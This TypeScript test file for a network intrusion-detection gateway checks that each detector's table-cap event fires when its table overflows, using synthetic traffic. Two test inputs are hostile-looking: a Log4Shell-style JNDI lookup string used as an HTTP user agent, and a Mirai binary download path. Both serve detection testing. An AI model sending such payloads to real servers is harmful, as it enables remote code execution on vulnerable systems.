// The named-event registry (common/events.ts): every name documented and unique, the table-cap
// section where it belongs; then every table-cap event raised by its own table when the table is
// driven past a cap of 2: each driver builds one owner with a small cap and the shared counters,
// and the event is asserted by name, alone (no other table's event counted).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ALERTS_DEFAULTS, AlertManager } from '../../../gateway/alerts/alert-manager.js';
import type { DnsMessage } from '../../../gateway/app/dns/dns-message.js';
import { AuthLimiter } from '../../../gateway/auth/auth-limiter.js';
import { parseIpv4, parseMac } from '../../../gateway/common/address-text.js';
import type { TableEventName } from '../../../gateway/common/bounded-table.js';
import { DECODE_EVENT_LIST, DecodeCounters, ev, type DecodeEventName } from '../../../gateway/common/events.js';
import { PacketView } from '../../../gateway/decode/packet-view.js';
import { baseline, BASELINE_DEFAULTS } from '../../../gateway/detect/detectors/baseline.js';
import { bruteforce, BRUTEFORCE_DEFAULTS } from '../../../gateway/detect/detectors/bruteforce.js';
import { cleartextTelnet, CLEARTEXT_TELNET_DEFAULTS } from '../../../gateway/detect/detectors/cleartext-telnet.js';
import { exploitHttp, EXPLOIT_HTTP_DEFAULTS } from '../../../gateway/detect/detectors/exploit-http.js';
import { malwareDownload, MALWARE_DOWNLOAD_DEFAULTS } from '../../../gateway/detect/detectors/malware-download.js';
import { malwareMining, MALWARE_MINING_DEFAULTS } from '../../../gateway/detect/detectors/malware-mining.js';
import { c2Http, C2_HTTP_DEFAULTS } from '../../../gateway/detect/detectors/c2-http.js';
import { beacon, BEACON_DEFAULTS } from '../../../gateway/detect/detectors/beacon.js';
import { deviceNew, DEVICE_NEW_DEFAULTS } from '../../../gateway/detect/detectors/device-new.js';
import { dnsExfiltration, DNS_EXFILTRATION_DEFAULTS } from '../../../gateway/detect/detectors/dns-exfiltration.js';
import { dnsTunnel, DNS_TUNNEL_DEFAULTS } from '../../../gateway/detect/detectors/dns-tunnel.js';
import { floodAmplification, FLOOD_AMPLIFICATION_DEFAULTS } from '../../../gateway/detect/detectors/flood-amplification.js';
import { floodSyn, FLOOD_SYN_DEFAULTS } from '../../../gateway/detect/detectors/flood-syn.js';
import { floodUdp, FLOOD_UDP_DEFAULTS } from '../../../gateway/detect/detectors/flood-udp.js';
import { icmpTunnel, ICMP_TUNNEL_DEFAULTS } from '../../../gateway/detect/detectors/icmp-tunnel.js';
import { intel, INTEL_DEFAULTS } from '../../../gateway/detect/detectors/intel-blocklist.js';
import { scanArp, SCAN_ARP_DEFAULTS } from '../../../gateway/detect/detectors/scan-arp.js';
import { scanHost, SCAN_HOST_DEFAULTS } from '../../../gateway/detect/detectors/scan-host.js';
import { scanIcmp, SCAN_ICMP_DEFAULTS } from '../../../gateway/detect/detectors/scan-icmp.js';
import { scanPort, SCAN_PORT_DEFAULTS } from '../../../gateway/detect/detectors/scan-port.js';
import { stormReconnect, STORM_RECONNECT_DEFAULTS } from '../../../gateway/detect/detectors/storm-reconnect.js';
import { LogLimiter } from '../../../gateway/edge-logs/log-limiter.js';
import { TrafficSummarizer } from '../../../gateway/fleet/traffic-summary.js';
import { ExposureTracker } from '../../../gateway/exposure/exposure-tracker.js';
import { PRIVACY_DEFAULTS } from '../../../gateway/track/privacy.js';
import { IncidentCorrelator } from '../../../gateway/incidents/incident-correlator.js';
import { IncidentStore } from '../../../gateway/incidents/incident-store.js';
import { INCIDENTS_DEFAULTS } from '../../../gateway/incidents/incidents-config.js';
import { openDatabase } from '../../../gateway/store/database.js';
import { DenialRecorder } from '../../../gateway/explain/denial-recorder.js';
import { TrafficMeter } from '../../../gateway/metrics/traffic-meter.js';
import type { MudPolicy } from '../../../gateway/policy/mud-policy.js';
import type { Plugin } from '../../../gateway/sensor/plugin.js';
import { pipelineConfig } from '../../../gateway/sensor/sensor-config.js';
import { DeviceInventory } from '../../../gateway/track/device-inventory.js';
import { DnsCache } from '../../../gateway/track/dns-cache.js';
import { Flow } from '../../../gateway/track/flow.js';
import { FlowTable } from '../../../gateway/track/flow-table.js';
import { compileProfile, parseMud } from '../../../policies/index.js';
import { fakeHost } from '../../helpers/fake-host.js';
import { fixture } from '../../helpers/fixtures.js';
import { giveDns } from '../../helpers/sensor.js';

const S = 1e6;
const T = Date.UTC(2026, 0, 1) * 1000;
const TCP = 6, UDP = 17, SYN = 0x02;
const LAN_IP = '192.168.1.10';
const mac = (i: number) => `02:00:00:00:02:${i.toString(16).padStart(2, '0')}`;
const CAP = 2;
/** Entries each driver offers a table capped at CAP: one eviction. */
const N = CAP + 1;

const NAMES = DECODE_EVENT_LIST.map(([n]) => n as string);
const isTableEvent = (n: string): boolean => n.endsWith('table_full');

describe('the named-event registry', () => {
  it('has unique names, each with a one-line why', () => {
    expect(new Set(NAMES).size).toBe(NAMES.length);
    for (const [name, why] of DECODE_EVENT_LIST) {
      expect(name, 'name').toMatch(/^[a-z][a-zA-Z0-9_]*(\.[a-zA-Z0-9_]+)+$/);
      expect(why.trim().length, `${name}: why`).toBeGreaterThan(10);
      expect(why, `${name}: one line`).not.toContain('\n');
    }
  });

  it('keeps the table caps in one section, after stream.* and before sensor.*', () => {
    const first = NAMES.findIndex(isTableEvent);
    const last = NAMES.length - 1 - [...NAMES].reverse().findIndex(isTableEvent);
    expect(NAMES.slice(first, last + 1).every(isTableEvent)).toBe(true);
    expect(NAMES[first - 1]!.startsWith('stream.')).toBe(true);
    expect(NAMES[last + 1]!.startsWith('sensor.')).toBe(true);
    expect(NAMES.slice(last + 1).some((n) => n.startsWith('stream.'))).toBe(false);
  });

  it('counts table caps as facts about the traffic, not input errors', () => {
    const c = new DecodeCounters();
    for (const n of NAMES.filter(isTableEvent)) c.add(ev(n as DecodeEventName));
    expect(c.errors()).toBe(0);
  });
});

// ---------------------------------------------------------------- the drivers

const pv = new PacketView();
let flowId = 1;

/** A packet in `pv`: IPv4, src → dst, ports, TCP flags, MACs (-1: none). */
function packet(o: { ts?: number; proto?: number; src?: string; dst: string; sport?: number; dport?: number; flags?: number; srcMac?: number; dstMac?: number }): PacketView {
  pv.reset();
  pv.ts = o.ts ?? T; pv.family = 4; pv.ipProto = o.proto ?? UDP;
  pv.src0 = parseIpv4(o.src ?? LAN_IP); pv.dst0 = parseIpv4(o.dst);
  pv.srcPort = o.sport ?? 40000; pv.dstPort = o.dport ?? 443; pv.tcpFlags = o.flags ?? 0;
  pv.srcMac = o.srcMac ?? parseMac(mac(1)); pv.dstMac = o.dstMac ?? -1;
  pv.origLen = 60;
  return pv;
}

/** A flow src → dst as its first packet left it (a SYN by default). */
function flow(o: { ts?: number; proto?: number; src?: string; dst: string; sport?: number; dport?: number; flagsAB?: number; aMac?: number }): Flow {
  const ts = o.ts ?? T;
  const f = new Flow(flowId++, 0, 4, o.proto ?? TCP, ts);
  f.a0 = parseIpv4(o.src ?? LAN_IP); f.b0 = parseIpv4(o.dst); f.aPort = o.sport ?? 40000; f.bPort = o.dport ?? 443;
  f.initiatorKnown = true; f.pktsAB = 1; f.flagsAB = o.flagsAB ?? SYN; f.aMac = o.aMac ?? parseMac(mac(1));
  f.lastTs = ts;
  return f;
}

const query = (name: string): DnsMessage => ({
  id: 1, qr: false, opcode: 0, rcode: 0, tc: false, questions: [{ name, type: 1, class: 1 }], answers: [], authorities: [], additionals: [],
});

/** A plug-in with a fake host whose counters are `events`. */
function detector<C extends object>(spec: { create(h: ReturnType<typeof fakeHost>['host'], c: C): Plugin }, defaults: C, over: Partial<C>) {
  const fh = fakeHost();
  fh.devices.touch(parseMac(mac(1)), T, 60);
  return { d: spec.create(fh.host, { ...defaults, ...over }), ...fh };
}

const tmp = mkdtempSync(join(tmpdir(), 'edgeward-table-events-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** Every table-cap event, with a driver that pushes its table past CAP and returns the counters. */
const DRIVERS: Record<TableEventName, () => DecodeCounters> = {
  'flow.table_full': () => {
    const c = new DecodeCounters();
    const t = new FlowTable({ ...pipelineConfig().flows, maxFlows: CAP }, c);
    for (let i = 0; i < N; i++) t.update(packet({ ts: T + i, dst: '203.0.113.1', sport: 40000 + i }));
    return c;
  },
  'device.table_full': () => {
    const c = new DecodeCounters();
    const d = new DeviceInventory({ ...pipelineConfig().devices, maxDevices: CAP }, c);
    for (let i = 0; i < N; i++) d.touch(parseMac(mac(i + 1)), T + i, 60);
    return c;
  },
  'dns.table_full': () => {
    const c = new DecodeCounters();
    const d = new DnsCache({ ...pipelineConfig().dns, maxNames: CAP }, c);
    for (let i = 0; i < N; i++) {
      d.onMessage({
        id: 1, qr: true, opcode: 0, rcode: 0, tc: false, questions: [],
        answers: [{ name: `n${i}.example.com`, type: 1, class: 1, ttl: 60, rdLen: 4, data: `198.51.100.${i + 1}` }], authorities: [], additionals: [],
      }, T + i);
    }
    return c;
  },
  'alert.dedup_table_full': () => {
    const c = new DecodeCounters();
    const m = new AlertManager({ ...ALERTS_DEFAULTS, maxOpen: CAP }, null, false, c);
    for (let i = 0; i < N; i++) {
      m.raise({ rule: 'scan.port', ts: T + i, device: null, src: LAN_IP, dst: `203.0.113.${i + 1}`, proto: 'tcp', sport: null, dport: null, message: 'm', evidence: {} });
    }
    return c;
  },
  'incident.open_table_full': () => {
    const c = new DecodeCounters();
    const db = openDatabase(':memory:');
    const m = new AlertManager(ALERTS_DEFAULTS, null, false);
    const inc = new IncidentCorrelator({ ...INCIDENTS_DEFAULTS, maxOpen: CAP }, { store: new IncidentStore(db), resolveDevice: () => null, nameOf: () => null, counters: c });
    m.addListener((a, isNew) => inc.onAlert(a, isNew));
    // Each alert about another external peer: a subject, and an open incident, each.
    for (let i = 0; i < N; i++) {
      m.raise({ rule: 'scan.port', ts: T + i, device: null, src: `203.0.113.${i + 1}`, dst: `192.0.2.${i + 1}`, proto: 'tcp', sport: null, dport: null, message: 'm', evidence: {} });
    }
    db.close();
    return c;
  },
  'auth.limiter_table_full': () => {
    const c = new DecodeCounters();
    const l = new AuthLimiter({ maxClients: CAP, now: () => 0 }, c);
    // One source, a new credential prefix each time: only the (source, prefix) table passes its cap.
    for (let i = 0; i < N; i++) l.fail('10.0.0.1', `ew_${String(i).padStart(8, 'A')}`);
    return c;
  },
  'edge_log.limiter_table_full': () => {
    const c = new DecodeCounters();
    const l = new LogLimiter({ ratePerSecond: 1, burst: 1, maxKeys: CAP, reportIntervalMs: 1000 }, c);
    for (let i = 0; i < N; i++) l.take(mac(i + 1), i);
    return c;
  },
  'exposure.service_table_full': () => {
    const fh = fakeHost();
    const x = new ExposureTracker(fh.host, { maxServices: CAP });
    // A LAN device accepting connections on N ports (its SYN-ACK): N services.
    for (let i = 0; i < N; i++) {
      const f = flow({ dst: '192.168.1.12', dport: 8000 + i });
      f.bMac = parseMac(mac(2)); f.flagsBA = SYN | 0x10; f.pktsBA = 1;
      x.onFlowEnd(f);
    }
    return fh.events;
  },
  'exposure.mapping_table_full': () => {
    const fh = fakeHost();
    const x = new ExposureTracker(fh.host, { maxMappings: CAP });
    // NAT-PMP maps of N internal ports from one device.
    for (let i = 0; i < N; i++) {
      x.onApp({ kind: 'portmap', ts: T + i, protocol: 'natpmp', internalPort: 8000 + i, externalPort: 8000 + i, lifetime: 3600, proto: 'tcp', extra: {} },
        packet({ ts: T + i, src: '192.168.1.12', dst: '192.168.1.1', dport: 5351 }), null);
    }
    return fh.events;
  },
  'meter.table_full': () => {
    const c = new DecodeCounters();
    const m = new TrafficMeter(CAP, undefined, c);
    for (let i = 0; i < N; i++) m.onPacket(packet({ ts: T + i, dst: '203.0.113.1', srcMac: parseMac(mac(i + 1)) }));
    return c;
  },
  'explain.denial_table_full': () => {
    const r = parseMud(readFileSync(fixture('mud/nist-mud/mudfile-dns-test.json'), 'utf8'));
    if (!r.ok) throw new Error('fixture refused');
    const cp = compileProfile(r.profile, { deviceMac: mac(1) });
    const fh = fakeHost();
    const rec = new DenialRecorder(fh.host, { policyOf: () => cp } as unknown as MudPolicy, { maxEntries: CAP });
    for (let i = 0; i < N; i++) {
      const f = flow({ dst: `203.0.113.${i + 1}`, proto: UDP });
      f.verdict = [{ device: mac(1), direction: 'from-device', allowed: false, acl: null, ace: null, reason: 'no ACE' }];
      rec.onPacket(packet({ dst: `203.0.113.${i + 1}` }), f, 0);
    }
    return fh.events;
  },
  'detect.scanPort.table_full': () => {
    const { d, events } = detector(scanPort, SCAN_PORT_DEFAULTS, { maxTracked: CAP });
    // A pair is tracked from its second distinct port (the first waits in the first-probe table).
    for (let i = 0; i < N; i++) {
      for (const port of [1, 2]) {
        const f = flow({ dst: `203.0.113.${i + 1}`, dport: port });
        d.onPacket!(packet({ dst: `203.0.113.${i + 1}`, proto: TCP, dport: port, flags: SYN, dstMac: parseMac(mac(9)) }), f, 0, null);
      }
    }
    return events;
  },
  'detect.scanPort.findings_table_full': () => {
    const { d, events } = detector(scanPort, SCAN_PORT_DEFAULTS, { fastPorts: 2, slowPorts: 2, maxFindings: CAP });
    for (let i = 0; i < N; i++) {
      for (const port of [1, 2]) {
        const f = flow({ dst: `203.0.113.${i + 1}`, dport: port });
        d.onPacket!(packet({ dst: `203.0.113.${i + 1}`, proto: TCP, dport: port, flags: SYN, dstMac: parseMac(mac(9)) }), f, 0, null);
      }
    }
    return events;
  },
  'detect.scanHost.table_full': () => {
    const { d, events } = detector(scanHost, SCAN_HOST_DEFAULTS, { maxTracked: CAP });
    // One key per source; tracked from its second host.
    for (let i = 0; i < N; i++) for (const h of [1, 2]) d.onFlowEnd!(flow({ src: `192.168.1.${20 + i}`, dst: `203.0.113.${h}`, dport: 23 }));
    return events;
  },
  'detect.scanHost.findings_table_full': () => {
    const { d, events } = detector(scanHost, SCAN_HOST_DEFAULTS, { fastHosts: 2, slowHosts: 2, maxFindings: CAP });
    for (let i = 0; i < N; i++) for (const h of [1, 2]) d.onFlowEnd!(flow({ src: `192.168.1.${20 + i}`, dst: `203.0.113.${h}`, dport: 23 }));
    return events;
  },
  'detect.beacon.table_full': () => {
    const { d, events } = detector(beacon, BEACON_DEFAULTS, { maxPairs: CAP });
    // Two connections each: a pair is made at its second check-in.
    for (let i = 0; i < N; i++) for (const k of [0, 1]) d.onFlowEnd!(flow({ ts: T + i * S + k, dst: `203.0.113.${i + 1}` }));
    return events;
  },
  'detect.dnsTunnel.table_full': () => {
    const { d, events } = detector(dnsTunnel, DNS_TUNNEL_DEFAULTS, { maxDomains: CAP });
    for (let i = 0; i < N; i++) giveDns(d, query(`q.d${i}.com`), packet({ ts: T + i, dst: '192.168.1.1', dport: 53 }));
    return events;
  },
  'detect.dnsExfiltration.table_full': () => {
    const { d, events } = detector(dnsExfiltration, DNS_EXFILTRATION_DEFAULTS, { maxDomains: CAP });
    for (let i = 0; i < N; i++) giveDns(d, query(`q.d${i}.com`), packet({ ts: T + i, dst: '192.168.1.1', dport: 53 }));
    return events;
  },
  'detect.floodSyn.table_full': () => {
    const { d, events } = detector(floodSyn, FLOOD_SYN_DEFAULTS, { maxVictims: CAP });
    for (let i = 0; i < N; i++) d.onPacket!(packet({ ts: T + i, proto: TCP, flags: SYN, dst: `203.0.113.${i + 1}` }), null, 0, null);
    return events;
  },
  'detect.floodUdp.table_full': () => {
    const { d, events } = detector(floodUdp, FLOOD_UDP_DEFAULTS, { maxVictims: CAP });
    for (let i = 0; i < N; i++) d.onPacket!(packet({ ts: T + i, dst: `203.0.113.${i + 1}` }), null, 0, null);
    return events;
  },
  'detect.floodAmplification.table_full': () => {
    const { d, events } = detector(floodAmplification, FLOOD_AMPLIFICATION_DEFAULTS, { maxVictims: CAP });
    for (let i = 0; i < N; i++) d.onPacket!(packet({ ts: T + i, src: '198.51.100.9', sport: 123, dport: 40000, dst: `192.168.1.${30 + i}` }), null, 0, null);
    return events;
  },
  'detect.intel.table_full': () => {
    const list = join(tmp, 'intel.txt');
    writeFileSync(list, Array.from({ length: N }, (_, i) => `203.0.113.${i + 1}`).join('\n'));
    const fh = fakeHost();
    intel.create(fh.host, { ...INTEL_DEFAULTS, lists: [list], maxEntries: CAP });
    return fh.events;
  },
  'detect.stormReconnect.table_full': () => {
    const { d, events, devices } = detector(stormReconnect, STORM_RECONNECT_DEFAULTS, { maxDevices: CAP });
    for (let i = 0; i < N; i++) d.onPacket!(packet({ ts: T + i, dst: '203.0.113.1' }), null, 0, devices.touch(parseMac(mac(i + 1)), T + i, 60));
    return events;
  },
  'detect.deviceNew.table_full': () => {
    const { d, events, devices } = detector(deviceNew, DEVICE_NEW_DEFAULTS, { maxRemembered: CAP });
    for (let i = 0; i < N; i++) d.onDeviceNew!(devices.touch(parseMac(mac(i + 1)), T + i, 60)!, T + i);
    return events;
  },
  'detect.deviceNew.held_table_full': () => {
    const { d, events, devices, alerts } = detector(deviceNew, DEVICE_NEW_DEFAULTS, { maxHeld: CAP });
    for (let i = 0; i < N; i++) d.onDeviceNew!(devices.touch(parseMac(mac(i + 1)), T + i, 60)!, T + i);
    expect(alerts.map((a) => a.device)).toEqual([mac(1)]); // raised early, by onEvict
    return events;
  },
  'detect.malwareDownload.table_full': () => {
    const { d, events } = detector(malwareDownload, MALWARE_DOWNLOAD_DEFAULTS, { maxFlows: CAP });
    for (let i = 0; i < N; i++) {
      const rec = {
        kind: 'http.request', ts: T + i * S, index: 0, method: 'GET', uri: '/bins/mirai.arm', host: null, userAgent: null, contentType: null,
        contentLength: null, soapAction: null, head: null, magic: null, elfArch: null, bodyLen: 0, truncated: false,
      } as const;
      d.onApp!(rec, packet({ proto: TCP, dst: '203.0.113.7', dport: 80 }), flow({ dst: '203.0.113.7', dport: 80 }), 0);
    }
    return events;
  },
  'detect.malwareMining.table_full': () => {
    const { d, events } = detector(malwareMining, MALWARE_MINING_DEFAULTS, { maxFlows: CAP });
    for (let i = 0; i < N; i++) d.onApp!({ kind: 'stratum', ts: T + i * S, method: 'mining.subscribe', agent: null }, packet({ proto: TCP, dst: '203.0.113.8', dport: 3333 }), flow({ dst: '203.0.113.8', dport: 3333 }), 0);
    return events;
  },
  'detect.bruteforce.table_full': () => {
    const { d, events } = detector(bruteforce, BRUTEFORCE_DEFAULTS, { maxTracked: CAP });
    for (let i = 0; i < N; i++) {
      const f = flow({ src: `203.0.113.${20 + i}`, dst: LAN_IP, dport: 23 });
      d.onApp!({ kind: 'telnet', ts: T + i * S, event: 'login-failure' }, packet({ proto: TCP, src: LAN_IP, dst: `203.0.113.${20 + i}`, sport: 23 }), f, 1);
    }
    return events;
  },
  'detect.cleartextTelnet.table_full': () => {
    const { d, events } = detector(cleartextTelnet, CLEARTEXT_TELNET_DEFAULTS, { maxTracked: CAP });
    for (let i = 0; i < N; i++) {
      const f = flow({ src: `203.0.113.${30 + i}`, dst: LAN_IP, dport: 23 });
      d.onPacket!(packet({ proto: TCP, src: LAN_IP, dst: `203.0.113.${30 + i}`, sport: 23, dport: 40000, flags: 0x12 }), f, 1, null);
    }
    return events;
  },
  // Placeholders: each is replaced by a driver of its detector's table.
  'detect.scanIcmp.table_full': () => {
    const { d, events } = detector(scanIcmp, SCAN_ICMP_DEFAULTS, { maxTracked: CAP });
    for (let i = 0; i < N; i++) {
      const p = packet({ ts: T + i * S, proto: 1, src: `192.168.1.${40 + i}`, dst: '203.0.113.1' });
      p.icmpType = 8; // an echo request from a new source each time
      d.onPacket!(p, null, 0, null);
    }
    return events;
  },
  'detect.scanArp.table_full': () => {
    const { d, events } = detector(scanArp, SCAN_ARP_DEFAULTS, { maxTracked: CAP });
    const a = new PacketView();
    for (let i = 0; i < N; i++) {
      a.reset();
      a.ts = T + i * S; a.etherType = 0x0806; a.arpOp = 1; // a who-has from a new sender each time
      a.arpSenderMac = parseMac(mac(i + 1)); a.arpSenderIp = parseIpv4(`192.168.1.${40 + i}`); a.arpTargetIp = parseIpv4('192.168.1.1');
      d.onPacket!(a, null, 0, null);
    }
    return events;
  },
  'detect.icmpTunnel.table_full': () => {
    const { d, events } = detector(icmpTunnel, ICMP_TUNNEL_DEFAULTS, { maxPairs: CAP });
    for (let i = 0; i < N; i++) {
      // An echo request with 8 zero bytes of data, from a new requester each time.
      const p = packet({ ts: T + i * S, proto: 1, src: `192.168.1.${40 + i}`, dst: '203.0.113.1' });
      p.buf = Buffer.alloc(36); p.l3Off = 0; p.l4Off = 20; p.ipLen = 36; p.l4End = 36;
      p.icmpType = 8; p.icmpCode = 0; p.icmpId = 1; p.icmpSeq = i;
      d.onPacket!(p, null, 0, null);
    }
    return events;
  },
  'detect.exploitHttp.table_full': () => {
    const { d, events } = detector(exploitHttp, EXPLOIT_HTTP_DEFAULTS, { maxTracked: CAP });
    for (let i = 0; i < N; i++) {
      const rec = {
        kind: 'http.request', ts: T + i * S, index: 0, method: 'GET', uri: '/', host: null, userAgent: '${jndi:ldap://203.0.113.9/a}', contentType: null,
        contentLength: null, soapAction: null, head: null, magic: null, elfArch: null, bodyLen: 0, truncated: false,
      } as const;
      d.onApp!(rec, packet({ proto: TCP, src: `203.0.113.${i + 1}`, dst: LAN_IP, dport: 80 }), flow({ src: `203.0.113.${i + 1}`, dst: LAN_IP, dport: 80 }), 0);
    }
    return events;
  },
  'detect.c2Http.table_full': () => {
    const { d, events } = detector(c2Http, C2_HTTP_DEFAULTS, { maxTracked: CAP });
    for (let i = 0; i < N; i++) {
      const rec = {
        kind: 'http.request', ts: T + i * S, index: 0, method: 'GET', uri: '/', host: `203.0.113.${40 + i}`, userAgent: 'agent/1.0', contentType: null,
        contentLength: null, soapAction: null, head: null, magic: null, elfArch: null, bodyLen: 0, truncated: false,
      } as const;
      d.onApp!(rec, packet({ proto: TCP, dst: `203.0.113.${40 + i}`, dport: 80 }), flow({ dst: `203.0.113.${40 + i}`, dport: 80 }), 0);
    }
    return events;
  },
  'fleet.traffic_table_full': () => {
    const fh = fakeHost();
    const gateway = { version: '0', outboxDepth: 0, health: 'ok' as const, captureLossPercent: null };
    const s = new TrafficSummarizer(fh.host, { privacy: PRIVACY_DEFAULTS, onSummary: () => undefined, gateway: () => gateway, maxKeys: CAP });
    // A flow to another internet peer each: the minute's peer table fills.
    for (let i = 0; i < N; i++) {
      const f = flow({ dst: `203.0.113.${i + 1}` });
      s.onFlowStart(f);
      s.onFlowEnd(f);
    }
    return fh.events;
  },
  'detect.baseline.table_full': () => {
    const { d, events, devices } = detector(baseline, BASELINE_DEFAULTS, { maxDevices: CAP });
    for (let i = 0; i < N; i++) {
      const m = parseMac(mac(i + 1));
      devices.touch(m, T, 60);
      const f = flow({ dst: '203.0.113.1', src: `192.168.1.${40 + i}`, aMac: m });
      d.onPacket!(packet({ src: `192.168.1.${40 + i}`, dst: '203.0.113.1', srcMac: m }), f, 0, null);
    }
    return events;
  },
};

describe('every table-cap event is raised by its table at the cap', () => {
  it('has a driver for every table event in the registry, and no other', () => {
    expect(Object.keys(DRIVERS).sort()).toEqual(NAMES.filter(isTableEvent).sort());
  });

  for (const [name, drive] of Object.entries(DRIVERS)) {
    it(`${name}: one eviction past a cap of ${CAP}, counted by name`, () => {
      const counters = drive();
      const tableEvents = Object.fromEntries(Object.entries(counters.toJSON()).filter(([n]) => isTableEvent(n)));
      expect(tableEvents).toEqual({ [name]: 1 });
      expect(counters.counts[ev(name as DecodeEventName)]).toBe(1);
    });
  }
});
